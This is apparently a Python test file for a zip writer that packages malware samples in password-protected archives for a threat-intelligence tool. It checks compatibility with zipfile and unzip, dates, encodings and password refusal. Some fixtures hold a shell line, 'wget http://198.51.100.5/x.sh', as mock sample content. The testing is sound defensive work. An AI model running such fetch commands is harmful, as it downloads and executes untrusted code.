"""The ZipCrypto zip writer, checked against readers written by others: Python's
``zipfile`` (what PyMISP uses) and Info-ZIP's ``unzip`` (``make system-deps``)."""

from __future__ import annotations

import datetime as dt
import io
import random
import subprocess
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from threatmesh.formats import sample_zip

WHEN = dt.datetime(2026, 12, 5, 21, 0, 7)
#: Anything a zipfile name may hold (zipfile cuts names at NUL).
NAMES = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
                min_size=1, max_size=40)  # fmt: skip
#: What a wrong password gives: the check byte refused (1 time in 256 it passes, and
#: the CRC or inflation fails instead).
WRONG = (RuntimeError, zipfile.BadZipFile, zlib.error)


def seeded(seed: int) -> Callable[[int], bytes]:
    """A reproducible source of the random header bytes."""
    return random.Random(seed).randbytes


def write(members: list[tuple[str, bytes]], seed: int = 1) -> bytes:
    return sample_zip.write(members, when=WHEN, random=seeded(seed))


def test_zipfile_reads_members_in_order_with_the_password() -> None:
    members = [("5d41402abc4b2a76b9719d911017c592", b"MZ" + bytes(range(256)) * 4),
               ("5d41402abc4b2a76b9719d911017c592.filename.txt", b"x.exe")]  # fmt: skip
    with zipfile.ZipFile(io.BytesIO(write(members))) as archive:
        assert archive.namelist() == [name for name, _ in members]
        for (name, content), info in zip(members, archive.infolist(), strict=True):
            assert archive.read(name, pwd=b"infected") == content
            assert info.flag_bits & 0x1  # encrypted
            # No data descriptor, so zipfile tests the password on the CRC's high byte
            # (with one, on the time's): reading proves the check byte is the CRC's.
            assert not info.flag_bits & 0x8
            assert info.date_time == (2026, 12, 5, 21, 0, 6)  # DOS time: even seconds
            assert info.CRC == zlib.crc32(content)
        archive.setpassword(b"infected")
        assert archive.testzip() is None  # every member's CRC checked


def test_a_wrong_or_missing_password_is_refused() -> None:
    data = write([("a", b"secret sample")])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        with pytest.raises(RuntimeError, match="Bad password"):
            archive.read("a", pwd=b"Infected")
        with pytest.raises(RuntimeError, match="password required"):
            archive.read("a")


def test_content_is_deflated_when_smaller_else_stored() -> None:
    noise = random.Random(7).randbytes(4096)
    data = write([("text", b"wget http://198.51.100.5/x.sh\n" * 100), ("noise", noise)])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text, raw = archive.infolist()
        assert (text.compress_type, raw.compress_type) == (zipfile.ZIP_DEFLATED, 0)
        assert text.compress_size < text.file_size
        assert raw.compress_size == raw.file_size + 12  # the encryption header
        assert archive.read("noise", pwd=b"infected") == noise


def test_output_is_reproducible_given_the_random_source() -> None:
    members = [("a", b"same content")]
    assert write(members, seed=3) == write(members, seed=3)
    other = write(members, seed=4)
    assert other != write(members, seed=3)
    with zipfile.ZipFile(io.BytesIO(other)) as archive:
        assert archive.read("a", pwd=b"infected") == b"same content"


def test_non_ascii_names_are_flagged_utf8() -> None:
    with zipfile.ZipFile(io.BytesIO(write([("échantillon", b"x"), ("plain", b"y")]))) as z:
        first, second = z.infolist()
        assert first.filename == "échantillon" and first.flag_bits & 0x800
        assert not second.flag_bits & 0x800


def test_empty_members_and_archives() -> None:
    with zipfile.ZipFile(io.BytesIO(write([("empty", b"")]))) as archive:
        assert archive.read("empty", pwd=b"infected") == b""
    with zipfile.ZipFile(io.BytesIO(write([]))) as archive:
        assert archive.namelist() == []


@pytest.mark.parametrize(
    ("when", "expected"),
    [
        (dt.datetime(1970, 1, 1), (1980, 1, 1, 0, 0, 0)),
        (dt.datetime(2200, 6, 1, 12), (2107, 12, 31, 23, 59, 58)),
        (dt.datetime(2026, 3, 4, 5, 6, 59, tzinfo=dt.UTC), (2026, 3, 4, 5, 6, 58)),
    ],
)  # fmt: skip
def test_dates_are_clamped_to_what_dos_time_holds(
    when: dt.datetime, expected: tuple[int, ...]
) -> None:
    data = sample_zip.write([("a", b"x")], when=when, random=seeded(0))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.infolist()[0].date_time == expected


def test_a_random_source_giving_the_wrong_length_is_refused() -> None:
    with pytest.raises(ValueError, match=r"random\(11\) returned 10 bytes"):
        sample_zip.write([("a", b"x")], when=WHEN, random=lambda n: bytes(n - 1))


def test_info_zip_unzip_reads_it_and_refuses_a_wrong_password(tmp_path: Path) -> None:
    content = b"#!/bin/sh\nwget http://198.51.100.5/x.sh\n" * 20 + bytes(range(256))
    path = tmp_path / "sample.zip"
    path.write_bytes(write([("d41d8", content), ("d41d8.filename.txt", b"x.sh")]))
    unzip = ["unzip", "-p", "-P"]
    assert subprocess.run([*unzip, "infected", path, "d41d8"], capture_output=True,
                          check=True).stdout == content  # fmt: skip
    tested = subprocess.run(["unzip", "-t", "-P", "infected", path], capture_output=True)
    assert tested.returncode == 0, tested.stdout
    wrong = subprocess.run(["unzip", "-t", "-P", "wrong", path], capture_output=True)
    assert wrong.returncode != 0


@settings(max_examples=60, deadline=None)
@given(
    st.dictionaries(NAMES, st.binary(max_size=2048), max_size=4),
    st.integers(0, 2**32),
    st.binary(min_size=1, max_size=16),
)
def test_any_members_round_trip_through_zipfile(
    members: dict[str, bytes], seed: int, password: bytes
) -> None:
    data = sample_zip.write(members.items(), when=WHEN, random=seeded(seed), password=password)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.namelist() == list(members)
        for name, content in members.items():
            assert archive.read(name, pwd=password) == content
            if content:  # (an empty member has no data a wrong password could spoil)
                with pytest.raises(WRONG):
                    archive.read(name, pwd=password + b"!")
